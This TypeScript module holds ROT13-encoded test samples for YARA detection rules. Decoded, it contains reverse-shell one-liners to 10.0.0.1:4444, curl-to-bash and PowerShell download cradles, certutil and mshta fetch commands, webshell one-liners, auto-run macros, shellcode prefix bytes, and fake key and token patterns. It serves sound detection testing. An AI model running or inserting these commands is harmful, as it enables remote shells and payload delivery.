/**
 * Samples for the rules of `rules/stoq.yar` about scripts, commands and other text. Texts are rotated by 13 places, so that these
 * sources do not set off scanners.
 *
 * @module
 */

import { hex, hit, join, miss, rot13, type Sample, wide } from "./rule_sample.ts";

/** All samples of texts. */
export const TEXT_SAMPLES: readonly Sample[] = [
  hit(
    "eicar_test_file",
    "test file",
    rot13("K5B!C%@NC[4\\CMK54(C^)7PP)7}$RVPNE-FGNAQNEQ-NAGVIVEHF-GRFG-SVYR!$U+U*"),
  ),
  miss(
    "eicar_test_file",
    "test file of another name",
    rot13("K5B!C%@NC[4\\CMK54(C^)7PP)7}$RVPNE-FGNAQNEQ-NAGVFCNZ-GRFG-SVYR!$U+U*"),
  ),
  hit(
    "powershell_encoded_command",
    "encoded command",
    rot13("cbjrefuryy.rkr -abc -rap WNOuNPNNCDNtNPVNnNOyNTjNoNOiNPVNBjNxNTRN"),
  ),
  hit(
    "powershell_encoded_command",
    "encoded command in UTF-16",
    wide(rot13("cjfu -RapbqrqPbzznaq WNOuNPNNCDNtNPVNnNOyNTjNoNOiNPVNBjNxNTRN")),
  ),
  miss(
    "powershell_encoded_command",
    "encoded text far from any PowerShell",
    rot13(
      "cbjrefuryy -r k                                                                                                                                                                                                                                                                                                                                                                                                                                    -rap WNOuNPNNCDNtNPVNnNOyNTjNoNOiNPVNBjNxNTRN",
    ),
  ),
  miss(
    "powershell_encoded_command",
    "encoding option without UTF-16",
    rot13("cbjrefuryy -rapbqvat DHWQERITE0uWFxgZGH5CHSSFH1EIIyqLJIb="),
  ),
  hit(
    "powershell_download_cradle",
    "download and run",
    rot13("VRK (Arj-Bowrpg Arg.JroPyvrag).QbjaybnqFgevat('uggc://rknzcyr.bet/n')"),
  ),
  hit(
    "powershell_download_cradle",
    "request and run",
    rot13("Vaibxr-JroErdhrfg uggc://rknzcyr.bet/n | Vaibxr-Rkcerffvba"),
  ),
  hit(
    "powershell_download_cradle",
    "download, save, start",
    rot13("(Arj-Bowrpg Arg.JroPyvrag).QbjaybnqSvyr('uggc://rknzcyr.bet/n','o.rkr'); Fgneg-Cebprff o.rkr"),
  ),
  miss(
    "powershell_download_cradle",
    "download and save",
    rot13("(Arj-Bowrpg Arg.JroPyvrag).QbjaybnqSvyr('uggc://rknzcyr.bet/n','o.gkg')"),
  ),
  miss(
    "powershell_download_cradle",
    "download and print",
    rot13("(Arj-Bowrpg Arg.JroPyvrag).QbjaybnqFgevat('uggc://rknzcyr.bet/n') | Bhg-Ubfg"),
  ),
  hit("powershell_hidden_window", "hidden window", rot13("cbjrefuryy -AbC -J Uvqqra -Svyr n.cf1")),
  hit(
    "powershell_hidden_window",
    "hidden window without policy",
    rot13("cbjrefuryy -JvaqbjFglyr Uvqqra -RkrphgvbaCbyvpl Olcnff -Svyr n.cf1"),
  ),
  miss(
    "powershell_hidden_window",
    "window without policy",
    rot13("cbjrefuryy -JvaqbjFglyr Abezny -RkrphgvbaCbyvpl Olcnff -Svyr n.cf1"),
  ),
  miss(
    "powershell_hidden_window",
    "hidden window alone",
    rot13("cbjrefuryy -JvaqbjFglyr Uvqqra -Svyr n.cf1"),
  ),
  hit(
    "powershell_loads_from_memory",
    "assembly from base64",
    rot13("$n = [Flfgrz.Pbaireg]::SebzOnfr64Fgevat($o); [Ersyrpgvba.Nffrzoyl]::Ybnq($n)"),
  ),
  hit(
    "powershell_loads_from_memory",
    "code from a compressed stream",
    rot13("Arj-Bowrpg VB.Pbzcerffvba.TmvcFgernz; IveghnyNyybp; $z::TrgQryrtngrSbeShapgvbaCbvagre($c)"),
  ),
  miss(
    "powershell_loads_from_memory",
    "assembly from a file",
    rot13('[Flfgrz.Pbafbyr]; [Ersyrpgvba.Nffrzoyl]::YbnqSvyr("n.qyy")'),
  ),
  miss(
    "powershell_loads_from_memory",
    "decoding alone",
    rot13("$n = [Flfgrz.Pbaireg]::SebzOnfr64Fgevat($o); Frg-Pbagrag n.ova $n"),
  ),
  hit(
    "jscript_dropper",
    "script that runs a command",
    rot13('ine n = arj NpgvirKBowrpg("JFpevcg.Furyy"); n.Eha("pnyp");'),
  ),
  hit(
    "jscript_dropper",
    "script that saves a file",
    rot13("shapgvba s() {} ine f = arj NpgvirKBowrpg('NQBQO.Fgernz'); f.FnirGbSvyr('n');"),
  ),
  miss(
    "jscript_dropper",
    "old page that asks for data",
    rot13('ine n = arj NpgvirKBowrpg("Zvpebfbsg.KZYUGGC"); /k/.rkrp(n.erfcbafrGrkg);'),
  ),
  miss(
    "jscript_dropper",
    "script that reads a key",
    rot13('ine n = arj NpgvirKBowrpg("JFpevcg.Furyy"); n.ErtErnq("o");'),
  ),
  hit(
    "vbscript_downloader",
    "macro that downloads and saves",
    rot13('Fho n()\r\nQvz k\r\nFrg k = PerngrBowrpg("ZFKZY2.KZYUGGC")\r\nk.FnirGbSvyr "n"\r\nRaq Fho\r\n'),
  ),
  hit(
    "vbscript_downloader",
    "macro that downloads and runs",
    rot13('\r\nCevingr Qrpyner Shapgvba HEYQbjaybnqGbSvyr Yvo "heyzba"\r\nFuryy ("n")\r\n'),
  ),
  miss(
    "vbscript_downloader",
    "macro that asks for data",
    rot13('Fho n()\r\nQvz k\r\nFrg k = PerngrBowrpg("ZFKZY2.KZYUGGC")\r\nk.Fraq\r\nRaq Fho\r\n'),
  ),
  miss(
    "vbscript_downloader",
    "text about a function of Windows",
    rot13("HEYQbjaybnqGbSvyr trgf n svyr, gura hfr Furyy (frr gurer)"),
  ),
  hit(
    "vba_runs_at_open",
    "macro that runs at opening",
    rot13('Fho NhgbBcra()\r\nFuryy "pnyp"\r\nRaq Fho\r\n'),
  ),
  hit(
    "vba_runs_at_open",
    "workbook macro with an object",
    rot13('Cevingr Fho Jbexobbx_Bcra()\r\nPerngrBowrpg("N.O")\r\nRaq Fho\r\n'),
  ),
  miss(
    "vba_runs_at_open",
    "macro that greets at opening",
    rot13('Fho NhgbBcra()\r\nZftObk "uryyb"\r\nRaq Fho\r\n'),
  ),
  miss(
    "vba_runs_at_open",
    "macro that runs when it is called",
    rot13('Fho BcraNhgb()\r\nFuryy "pnyp"\r\nRaq Fho\r\n'),
  ),
  hit(
    "script_host_container_runs_command",
    "HTML application",
    rot13('<ugn:nccyvpngvba vq=n><fpevcg>k = arj B("JFpevcg.Furyy"); k.Eha("pnyp")</fpevcg>'),
  ),
  hit(
    "script_host_container_runs_command",
    "scriptlet",
    rot13('<fpevcgyrg><fpevcg>k = arj B("Furyy.Nccyvpngvba"); k.FuryyRkrphgr("pnyp")</fpevcg>'),
  ),
  miss(
    "script_host_container_runs_command",
    "HTML application that shows a text",
    rot13('<ugn:nccyvpngvba vq=n><fpevcg>k = arj B("JFpevcg.Furyy"); k.Cbchc("pnyp")</fpevcg>'),
  ),
  miss(
    "script_host_container_runs_command",
    "page",
    rot13('<ugzy><fpevcg>k = arj B("JFpevcg.Furyy"); k.Eha("pnyp")</fpevcg>'),
  ),
  hit(
    "signed_binary_runs_remote_script",
    "scriptlet by address",
    rot13("ertfie32 /f /a /h /v:uggc://rknzcyr.bet/n.fpg fpebow.qyy"),
  ),
  hit(
    "signed_binary_runs_remote_script",
    "HTML application by address",
    rot13("zfugn uggc://rknzcyr.bet/n.ugn"),
  ),
  hit(
    "signed_binary_runs_remote_script",
    "script for rundll32",
    rot13('ehaqyy32.rkr wninfpevcg:"\\..\\zfugzy"'),
  ),
  hit(
    "signed_binary_runs_remote_script",
    "package by address",
    rot13("zfvrkrp /d /v uggcf://rknzcyr.bet/n.zfv"),
  ),
  hit(
    "signed_binary_runs_remote_script",
    "support tool",
    rot13('ybpngvba.uers = "zf-zfqg:/vq CPJQvntabfgvp /cnenz VG_EroebjfrSbeSvyr=k"'),
  ),
  miss("signed_binary_runs_remote_script", "registration of a library", rot13("ertfie32 /f fpebow.qyy")),
  miss(
    "signed_binary_runs_remote_script",
    "HTML application by name",
    rot13("zfugn n.ugn uggc://rknzcyr.bet/"),
  ),
  miss("signed_binary_runs_remote_script", "package by name", rot13("zfvrkrp /d /v n.zfv")),
  hit(
    "signed_binary_downloads",
    "certutil",
    rot13("preghgvy.rkr -heypnpur -fcyvg -s uggc://rknzcyr.bet/n n.rkr"),
  ),
  hit("signed_binary_downloads", "bitsadmin", rot13("ovgfnqzva /genafsre n uggc://rknzcyr.bet/n p:\\n.rkr")),
  miss("signed_binary_downloads", "certutil for a certificate", rot13("preghgvy -nqqfgber ebbg n.pre")),
  miss(
    "signed_binary_downloads",
    "option far from certutil",
    rot13(
      "preghgvy................................................................................ -qrpbqr n o",
    ),
  ),
  hit(
    "html_smuggling",
    "page that saves a zip",
    rot13(
      '<ugzy><fpevcg>o = arj Oybo([ngbo("HRfQOODN")]); n.uers = HEY.perngrBowrpgHEY(o); n.qbjaybnq = "n.mvc"; n.pyvpx()</fpevcg>',
    ),
  ),
  miss(
    "html_smuggling",
    "page that shows a picture",
    rot13('<ugzy><fpevcg>o = arj Oybo([ngbo("vIOBEj0X")]); vzt.fep = HEY.perngrBowrpgHEY(o)</fpevcg>'),
  ),
  miss(
    "html_smuggling",
    "page that saves a table",
    rot13(
      '<ugzy><fpevcg>o = arj Oybo([grkg]); n.uers = HEY.perngrBowrpgHEY(o); n.qbjaybnq = "n.pfi"</fpevcg>',
    ),
  ),
  hit("shellcode_resolves_by_hash", "code, 32 bits", hex("fce8820000006089e531d2648b52308b520c8b5214")),
  hit("shellcode_resolves_by_hash", "code, 32 bits, later", hex("fce88f0000006031d289e5648b5230")),
  hit("shellcode_resolves_by_hash", "code, 64 bits", hex("fc4883e4f0e8c0000000415141505251")),
  miss("shellcode_resolves_by_hash", "code with another call", hex("fc4883e4f0e8c1000000415141505251")),
  hit("webshell_one_liner", "PHP that evaluates", rot13('<?cuc @riny($_CBFG["n"]); ?>')),
  hit(
    "webshell_one_liner",
    "PHP that decodes and evaluates",
    rot13('<?cuc nffreg(onfr64_qrpbqr($_ERDHRFG["n"])); ?>'),
  ),
  hit("webshell_one_liner", "ASP that evaluates", rot13('<%riny erdhrfg("n")%>')),
  hit(
    "webshell_one_liner",
    "JSP that runs",
    rot13('<% Ehagvzr.trgEhagvzr().rkrp(erdhrfg.trgCnenzrgre("n")); %>'),
  ),
  miss("webshell_one_liner", "PHP that prints", rot13('<?cuc rpub ugzyfcrpvnypunef($_CBFG["n"]); ?>')),
  miss(
    "webshell_one_liner",
    "PHP that runs a fixed command",
    rot13('<?cuc flfgrz("hcgvzr"); $n = $_CBFG["n"]; ?>'),
  ),
  hit("reverse_shell_one_liner", "shell over TCP", rot13("onfu -v >& /qri/gpc/10.0.0.1/4444 0>&1")),
  hit(
    "reverse_shell_one_liner",
    "shell over a descriptor",
    rot13("rkrp 5<>/qri/gpc/10.0.0.1/4444; png <&5 | juvyr ernq yvar; qb $yvar; qbar"),
  ),
  hit("reverse_shell_one_liner", "shell over netcat", rot13("ap 10.0.0.1 4444 -r /ova/fu")),
  hit(
    "reverse_shell_one_liner",
    "shell over a pipe",
    rot13("zxsvsb /gzc/s; png /gzc/s | /ova/fu -v 2>&1 | ap 10.0.0.1 4444 > /gzc/s"),
  ),
  hit(
    "reverse_shell_one_liner",
    "shell in Python",
    rot13('f=fbpxrg.fbpxrg();f.pbaarpg(("10.0.0.1",4444));bf.qhc2(f.svyrab(),0);cgl.fcnja("fu")'),
  ),
  hit(
    "reverse_shell_one_liner",
    "shell in Perl",
    rot13('fbpxrg(F,CS_VARG,FBPX_FGERNZ,6);rkrp("/ova/fu -v");'),
  ),
  hit(
    "reverse_shell_one_liner",
    "shell in PHP",
    rot13('$f=sfbpxbcra("10.0.0.1",4444);rkrp("/ova/fu -v <&3");'),
  ),
  hit(
    "reverse_shell_one_liner",
    "shell in PowerShell",
    rot13("$p=Arj-Bowrpg Arg.Fbpxrgf.GPCPyvrag('10.0.0.1',4444);$e=(vrk $q)"),
  ),
  miss("reverse_shell_one_liner", "port check", rot13("rkrp 5<>/qri/gpc/10.0.0.1/4444 && rpub bcra")),
  miss(
    "reverse_shell_one_liner",
    "netcat that sends a file",
    rot13("ap 10.0.0.1 4444 < n.gkg; fu -r /ova/gehr"),
  ),
  miss(
    "reverse_shell_one_liner",
    "socket in Python",
    rot13('f=fbpxrg.fbpxrg();f.pbaarpg(("10.0.0.1",4444));f.fraq(o"/ova/fu")'),
  ),
  hit("shell_fetches_from_address", "fetch and run", rot13("phey -f uggc://10.0.0.1/n.fu | onfu\n")),
  hit(
    "shell_fetches_from_address",
    "fetch and make executable",
    rot13("jtrg uggc://10.0.0.1:8080/n -B /gzc/n; puzbq +k /gzc/n\n"),
  ),
  miss(
    "shell_fetches_from_address",
    "fetch by name and run",
    rot13("phey -f uggcf://rknzcyr.bet/n.fu | onfu\n"),
  ),
  miss("shell_fetches_from_address", "fetch and print", rot13("phey -f uggc://10.0.0.1/n.gkg | yrff\n")),
  hit(
    "ransom_note",
    "ransom note",
    rot13(
      "Nyy lbhe svyrf unir orra rapelcgrq! Gb trg gur qrpelcgvba xrl cnl 1 ovgpbva. Pbagnpg hf. Qb abg eranzr svyrf.",
    ),
  ),
  miss(
    "ransom_note",
    "manual of a backup program",
    rot13("Lbhe svyrf unir orra rapelcgrq jvgu lbhe cnffjbeq. Xrrc gur cevingr xrl va n fnsr cynpr."),
  ),
  miss(
    "ransom_note",
    "offer",
    rot13("Cnl jvgu ovgpbva, jevgr gb hf sbe n qrpelcgvba gbby, qb abg qryrgr guvf znvy."),
  ),
  hit(
    "miner_configuration",
    "miner settings",
    rot13('{"hey": "fgenghz+gpc://cbby.rknzcyr.bet:3333", "hfre": "k"}'),
  ),
  miss(
    "miner_configuration",
    "address of a pool",
    rot13("gur nqqerff vf fgenghz+gpc://cbby.rknzcyr.bet:3333"),
  ),
  miss(
    "miner_configuration",
    "settings of something else",
    rot13('{"hey": "gpc://cbby.rknzcyr.bet:3333", "hfre": "k"}'),
  ),
  hit(
    "private_key_text",
    "private key",
    rot13(
      "-----ORTVA EFN CEVINGR XRL-----\nZVVRbjVONNXPNDRNZVVRbjVONNXPNDRNZVVRbjVONNXPNDRNZVVRbjVONNXPNDRN\n",
    ),
  ),
  hit("private_key_text", "PuTTY key", rot13("ChGGL-Hfre-Xrl-Svyr-3: ffu-rq25519\n")),
  miss(
    "private_key_text",
    "public key",
    rot13(
      "-----ORTVA EFN CHOYVP XRL-----\nZVVRbjVONNXPNDRNZVVRbjVONNXPNDRNZVVRbjVONNXPNDRNZVVRbjVONNXPNDRN\n",
    ),
  ),
  miss(
    "private_key_text",
    "place of a private key",
    rot13("-----ORTVA EFN CEVINGR XRL-----\n...\n-----RAQ EFN CEVINGR XRL-----\n"),
  ),
  hit(
    "service_credential",
    "pair of keys",
    rot13("vq = NXVNNOPQRSTUVWXYZABC\nnjf_frperg_npprff_xrl = nopQRS12345+/nopQRS12345+/nopQRS12345+/k\n"),
  ),
  hit("service_credential", "token", rot13("gbxra: tuc_nO3nO3nO3nO3nO3nO3nO3nO3nO3nO3nO3nO3\n")),
  miss("service_credential", "half a pair of keys", rot13("vq = NXVNNOPQRSTUVWXYZABC\n")),
  miss("service_credential", "short token", rot13("gbxra: tuc_nO3nO3nO3nO3nO3nO3nO3nO3nO3nO3nO3\n")),
  miss(
    "powershell_loads_from_memory",
    "program that holds such text",
    join("MZ", rot13("$n = [Flfgrz.Pbaireg]::SebzOnfr64Fgevat($o); [Ersyrpgvba.Nffrzoyl]::Ybnq($n)")),
  ),
  hit(
    "jscript_dropper",
    "script that downloads and saves",
    rot13('gel { ine n = JFpevcg.PerngrBowrpg("ZFKZY2.KZYUGGC"); f.FnirGbSvyr("n"); } pngpu (r) {};'),
  ),
  hit(
    "jscript_dropper",
    "script that downloads beside a shell",
    rot13('ine n = arj NpgvirKBowrpg("ZFKZY2.KZYUGGC"), o = "JFpevcg.Furyy";'),
  ),
  miss(
    "jscript_dropper",
    "script that opens a stream",
    rot13('ine n = arj NpgvirKBowrpg("NQBQO.Fgernz"); n.Bcra();'),
  ),
  hit(
    "vbscript_downloader",
    "script that downloads and runs",
    rot13('Qvz k\r\nFrg k = PerngrBowrpg("ZFKZY2.KZYUGGC")\r\nl.Eha "n"\r\n'),
  ),
  miss(
    "vbscript_downloader",
    "macro that downloads",
    rot13('\r\nCevingr Qrpyner Shapgvba HEYQbjaybnqGbSvyr Yvo "heyzba"\r\n'),
  ),
  miss(
    "shell_fetches_from_address",
    "address far from the command",
    rot13(
      "phey n                                                                      uggc://10.0.0.1/n.fu | onfu\n",
    ),
  ),
  miss(
    "shell_fetches_from_address",
    "command far from the address",
    rot13(
      "phey uggc://10.0.0.1/n                                                                                                                                                                                                        | onfu\n",
    ),
  ),
];
